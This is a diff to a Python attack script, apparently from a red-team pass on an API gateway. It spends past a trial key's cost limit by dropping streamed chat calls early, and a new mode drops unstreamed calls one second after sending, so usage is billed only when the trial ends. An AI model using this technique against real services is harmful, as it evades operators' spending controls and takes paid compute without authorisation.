@@ -1,8 +1,8 @@
 """Attack pass round 14: spend past a trial key's ``max_cost`` by calls cut on purpose.
 
-Run as ``python3 round14_cut_streams.py BASE_URL KEY N``: N streamed chat calls one after the
-other, each dropped (the connection closed) as soon as the answer's text has come, before the
-stream's end. A cut call's cost was counted only when the trial ended (``Gateway.end``), never
+Run as ``python3 round14_cut_streams.py BASE_URL KEY N [wait]``: N streamed chat calls one after
+the other, each dropped (the connection closed) as soon as the answer's text has come, before the
+stream's end; with ``wait``, N calls not streamed, each dropped 1 s after it was sent (status 0). A cut call's cost was counted only when the trial ended (``Gateway.end``), never
 against the key's ``max_cost`` while the trial ran: every such call passed the limit, and the
 agent kept the answers. Prints one line per call: its HTTP status and the text it received.
 """
@@ -13,14 +13,21 @@ import sys
 import urllib.parse
 
 
-def cut_call(base: str, key: str) -> tuple[int, str]:
+def cut_call(base: str, key: str, stream: bool = True) -> tuple[int, str]:
     url = urllib.parse.urlparse(base)
     conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
-    body = {"model": "any", "stream": True,
+    if not stream:  # a call whose answer is not waited for: dropped 1 s after it was sent
+        conn.timeout = 1.0
+    body = {"model": "any", "stream": stream,
             "messages": [{"role": "user", "content": "Tell me everything about sandboxes. " * 20}]}
     conn.request("POST", "/v1/chat/completions", json.dumps(body),
                  {"Authorization": f"Bearer {key}", "Content-Type": "application/json"})
-    r = conn.getresponse()
+    try:
+        r = conn.getresponse()
+    except TimeoutError:
+        conn.sock.shutdown(2)
+        conn.close()
+        return 0, ""
     text = ""
     if r.status == 200:
         while line := r.fp.readline():
@@ -36,5 +43,5 @@ def cut_call(base: str, key: str) -> tuple[int, str]:
 
 if __name__ == "__main__":
     for _ in range(int(sys.argv[3])):
-        status, text = cut_call(sys.argv[1], sys.argv[2])
+        status, text = cut_call(sys.argv[1], sys.argv[2], stream=sys.argv[4:] != ["wait"])
         print(status, json.dumps(text[:40]), flush=True)
